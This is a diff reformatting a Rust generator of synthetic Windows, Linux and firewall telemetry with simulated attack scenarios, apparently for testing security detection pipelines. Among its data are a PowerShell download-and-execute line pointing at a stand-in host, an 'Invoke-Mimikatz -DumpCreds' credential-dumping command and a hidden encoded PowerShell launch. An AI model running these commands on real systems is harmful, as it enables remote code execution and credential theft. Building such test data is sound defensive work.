@@ -74,8 +74,7 @@ fn yes() -> bool {
 impl ComponentConfig for GeneratorConfig {
     const TYPE: &'static str = "generator";
     const SECTION: Section = Section::Source;
-    const DESCRIPTION: &'static str =
-        "Synthetic Windows, Linux, Zeek and firewall telemetry with attack scenarios";
+    const DESCRIPTION: &'static str = "Synthetic Windows, Linux, Zeek and firewall telemetry with attack scenarios";
     const ACCEPTS: &'static [StreamKind] = &[];
     const OUTPUT: Option<StreamKind> = Some(StreamKind::Records);
 
@@ -83,10 +82,7 @@ impl ComponentConfig for GeneratorConfig {
         let start = chrono::DateTime::parse_from_rfc3339(&self.start_time)
             .map_err(|e| anyhow::anyhow!("start_time `{}`: {e}", self.start_time))?
             .timestamp_millis();
-        Ok(Built::Source(Arc::new(GeneratorFactory {
-            config: self,
-            start_ms: start,
-        })))
+        Ok(Built::Source(Arc::new(GeneratorFactory { config: self, start_ms: start })))
     }
 }
 
@@ -154,43 +150,30 @@ const WORKSTATIONS: &[&str] = &[
     "ws-09.corp.local",
     "ws-10.corp.local",
 ];
-const USERS: &[&str] = &[
-    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi",
-];
+const USERS: &[&str] = &["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"];
 const LINUX_HOSTS: &[&str] = &["web-01", "web-02", "db-01", "bastion"];
 const BENIGN: &[(&str, &str)] = &[
     ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
-    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US"),
+    (
+        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US",
+    ),
     ("C:\\Windows\\System32\\notepad.exe", "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\Public\\notes.txt"),
-    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\""),
+    (
+        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
+        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"",
+    ),
     ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\system32\\cmd.exe /c dir C:\\Users"),
     ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
     ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}"),
 ];
-const PUBLIC_DST: &[&str] = &[
-    "198.51.100.7",
-    "198.51.100.23",
-    "203.0.113.40",
-    "203.0.113.41",
-    "192.0.2.80",
-];
-const DOMAINS: &[&str] = &[
-    "www.example.com",
-    "login.example.net",
-    "cdn.example.org",
-    "updates.example.com",
-    "mail.example.com",
-];
+const PUBLIC_DST: &[&str] = &["198.51.100.7", "198.51.100.23", "203.0.113.40", "203.0.113.41", "192.0.2.80"];
+const DOMAINS: &[&str] =
+    &["www.example.com", "login.example.net", "cdn.example.org", "updates.example.com", "mail.example.com"];
 const TI_IP: &str = "45.155.205.233";
 
 impl Generator {
-    pub fn new(
-        component: Arc<str>,
-        config: GeneratorConfig,
-        start_ms: i64,
-        worker: u64,
-        workers: u64,
-    ) -> Self {
+    pub fn new(component: Arc<str>, config: GeneratorConfig, start_ms: i64, worker: u64, workers: u64) -> Self {
         let encoded_commands = [
             "IEX (New-Object Net.WebClient).DownloadString('http://dl.badcdn.example/payload.ps1')",
             "Invoke-Mimikatz -DumpCreds",
@@ -236,16 +219,7 @@ impl Generator {
                 let (image, cmd) = BENIGN[rng.below(BENIGN.len() as u64) as usize];
                 let host = rng.pick(WORKSTATIONS);
                 let user = rng.pick(USERS);
-                self.sysmon_process(
-                    ts,
-                    k,
-                    host,
-                    user,
-                    image,
-                    cmd,
-                    "C:\\Windows\\explorer.exe",
-                    &mut rng,
-                );
+                self.sysmon_process(ts, k, host, user, image, cmd, "C:\\Windows\\explorer.exe", &mut rng);
             }
             25..=34 => {
                 let host = rng.pick(WORKSTATIONS);
@@ -304,30 +278,12 @@ impl Generator {
 
     fn scenario(&mut self, block: u64, p: u64, ts: i64, k: u64, rng: &mut Rng) -> bool {
         match (block % 4, p) {
-            (0, 100..=107) => self.security_logon(
-                ts,
-                k,
-                4625,
-                "dc1.corp.local",
-                "svc-backup",
-                TI_IP,
-                "unknown",
-            ),
-            (0, 110) => self.security_logon(
-                ts,
-                k,
-                4624,
-                "dc1.corp.local",
-                "svc-backup",
-                TI_IP,
-                "unknown",
-            ),
+            (0, 100..=107) => self.security_logon(ts, k, 4625, "dc1.corp.local", "svc-backup", TI_IP, "unknown"),
+            (0, 110) => self.security_logon(ts, k, 4624, "dc1.corp.local", "svc-backup", TI_IP, "unknown"),
             (0, 120) => self.security_group_add(ts, k, "dc1.corp.local", "svc-backup"),
             (1, 200) => {
-                let enc = self.encoded_commands[(block as usize / 4) % self.encoded_commands.len()]
-                    .clone();
-                let cmd =
-                    format!("powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {enc}");
+                let enc = self.encoded_commands[(block as usize / 4) % self.encoded_commands.len()].clone();
+                let cmd = format!("powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {enc}");
                 self.sysmon_process(
                     ts,
                     k,
@@ -355,13 +311,7 @@ impl Generator {
                 None,
                 "deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash",
             ),
-            (3, 416) => self.syslog_line(
-                ts,
-                "bastion",
-                "usermod",
-                Some(31337),
-                "add 'deploy' to group 'sudo'",
-            ),
+            (3, 416) => self.syslog_line(ts, "bastion", "usermod", Some(31337), "add 'deploy' to group 'sudo'"),
             _ => return false,
         }
         true
@@ -370,13 +320,9 @@ impl Generator {
     fn malformed(&mut self, n: u64, ts: i64) {
         let b = &mut self.buf;
         match n % 5 {
-            0 => b.extend_from_slice(
-                br#"{"Event":{"System":{"EventID":4625,"Channel":"Security","Comp"#,
-            ),
+            0 => b.extend_from_slice(br#"{"Event":{"System":{"EventID":4625,"Channel":"Security","Comp"#),
             1 => b.extend_from_slice(b"<38>Jan  5 08:0"),
-            2 => b.extend_from_slice(
-                b"<38>Jan  5 08:00:00 web-01 sshd[1]: Failed password for \xff\xfe from 10.0.0.1",
-            ),
+            2 => b.extend_from_slice(b"<38>Jan  5 08:00:00 web-01 sshd[1]: Failed password for \xff\xfe from 10.0.0.1"),
             3 => {
                 let _ = write!(
                     b,
@@ -403,15 +349,7 @@ impl Generator {
         );
     }
 
-    fn win_header(
-        &mut self,
-        ts: i64,
-        k: u64,
-        provider: &str,
-        channel: &str,
-        event_id: u32,
-        computer: &str,
-    ) {
+    fn win_header(&mut self, ts: i64, k: u64, provider: &str, channel: &str, event_id: u32, computer: &str) {
         let _ = write!(
             self.buf,
             r##"{{"Event":{{"System":{{"Provider":{{"#attributes":{{"Name":"{provider}"}}}},"EventID":{event_id},"Version":2,"Level":4,"Keywords":"0x8020000000000000","TimeCreated":{{"#attributes":{{"SystemTime":""##
@@ -436,14 +374,7 @@ impl Generator {
         parent: &str,
         rng: &mut Rng,
     ) {
-        self.win_header(
-            ts,
-            k,
-            "Microsoft-Windows-Sysmon",
-            "Microsoft-Windows-Sysmon/Operational",
-            1,
-            host,
-        );
+        self.win_header(ts, k, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1, host);
         let pid = 1000 + rng.below(30000);
         let _ = write!(
             self.buf,
@@ -459,14 +390,7 @@ impl Generator {
     }
 
     fn sysmon_network(&mut self, ts: i64, k: u64, host: &str, dst: &str, port: u16, rng: &mut Rng) {
-        self.win_header(
-            ts,
-            k,
-            "Microsoft-Windows-Sysmon",
-            "Microsoft-Windows-Sysmon/Operational",
-            3,
-            host,
-        );
+        self.win_header(ts, k, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 3, host);
         let _ = write!(
             self.buf,
             r#""RuleName":"-","ProcessId":{},"Image":"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe","User":"CORP\\{}","Protocol":"tcp","Initiated":"true","SourceIp":"10.10.1.{}","SourcePort":{},"DestinationIp":"{dst}","DestinationPort":{port}}}}}}}"#,
@@ -478,29 +402,10 @@ impl Generator {
     }
 
     #[allow(clippy::too_many_arguments)]
-    fn security_logon(
-        &mut self,
-        ts: i64,
-        k: u64,
-        id: u32,
-        dc: &str,
-        user: &str,
-        ip: &str,
-        workstation: &str,
-    ) {
-        self.win_header(
-            ts,
-            k,
-            "Microsoft-Windows-Security-Auditing",
-            "Security",
-            id,
-            dc,
-        );
-        let status = if id == 4625 {
-            r#","Status":"0xc000006d","SubStatus":"0xc000006a","FailureReason":"%%2313""#
-        } else {
-            ""
-        };
+    fn security_logon(&mut self, ts: i64, k: u64, id: u32, dc: &str, user: &str, ip: &str, workstation: &str) {
+        self.win_header(ts, k, "Microsoft-Windows-Security-Auditing", "Security", id, dc);
+        let status =
+            if id == 4625 { r#","Status":"0xc000006d","SubStatus":"0xc000006a","FailureReason":"%%2313""# } else { "" };
         let _ = write!(
             self.buf,
             r#""SubjectUserSid":"S-1-0-0","TargetUserName":"{user}","TargetDomainName":"CORP","LogonType":3,"LogonProcessName":"NtLmSsp ","AuthenticationPackageName":"NTLM","WorkstationName":"{workstation}","IpAddress":"{ip}","IpPort":"-"{status}}}}}}}"#,
@@ -508,14 +413,7 @@ impl Generator {
     }
 
     fn security_group_add(&mut self, ts: i64, k: u64, dc: &str, user: &str) {
-        self.win_header(
-            ts,
-            k,
-            "Microsoft-Windows-Security-Auditing",
-            "Security",
-            4732,
-            dc,
-        );
+        self.win_header(ts, k, "Microsoft-Windows-Security-Auditing", "Security", 4732, dc);
         let _ = write!(
             self.buf,
             r#""MemberName":"CN={user},OU=Service Accounts,DC=corp,DC=local","MemberSid":"S-1-5-21-3623811015-3361044348-30300820-1107","TargetUserName":"Administrators","TargetDomainName":"Builtin","TargetSid":"S-1-5-32-544","SubjectUserName":"{user}","SubjectDomainName":"CORP"}}}}}}"#,
@@ -523,9 +421,7 @@ impl Generator {
     }
 
     fn syslog_time(&mut self, ts: i64) {
-        const MONTHS: [&str; 12] = [
-            "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
-        ];
+        const MONTHS: [&str; 12] = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
         let t = chrono::DateTime::from_timestamp_millis(ts).unwrap_or_default();
         let _ = write!(
             self.buf,
@@ -557,15 +453,9 @@ impl Generator {
         let pid = 1000 + rng.below(60000);
         let port = 30000 + rng.below(35000);
         if ok {
-            let _ = write!(
-                self.buf,
-                " {host} sshd[{pid}]: Accepted password for {user} from {ip} port {port} ssh2"
-            );
+            let _ = write!(self.buf, " {host} sshd[{pid}]: Accepted password for {user} from {ip} port {port} ssh2");
         } else {
-            let _ = write!(
-                self.buf,
-                " {host} sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2"
-            );
+            let _ = write!(self.buf, " {host} sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2");
         }
     }
 
@@ -669,8 +559,8 @@ impl Source for Generator {
             let share = (self.config.rate as f64 / self.step as f64).max(1.0);
             let due = (started.elapsed().as_secs_f64() * share) as u64 + 1;
             if due <= self.produced {
-                let wait = Duration::from_secs_f64((self.produced + 1) as f64 / share)
-                    .saturating_sub(started.elapsed());
+                let wait =
+                    Duration::from_secs_f64((self.produced + 1) as f64 / share).saturating_sub(started.elapsed());
                 return Ok(SourcePoll::Pending(wait.max(Duration::from_millis(1))));
             }
             allowed = allowed.min(due - self.produced);
@@ -759,10 +649,7 @@ mod tests {
         let recs = drain(&mut gen(1, 0, 100, 10));
         let broken = recs.iter().filter(|(k, _)| k % 10 == 5).count();
         assert_eq!(broken, 10);
-        assert!(
-            std::str::from_utf8(&recs[25].1).is_err(),
-            "the third kind is invalid UTF-8"
-        );
+        assert!(std::str::from_utf8(&recs[25].1).is_err(), "the third kind is invalid UTF-8");
     }
 
     #[test]
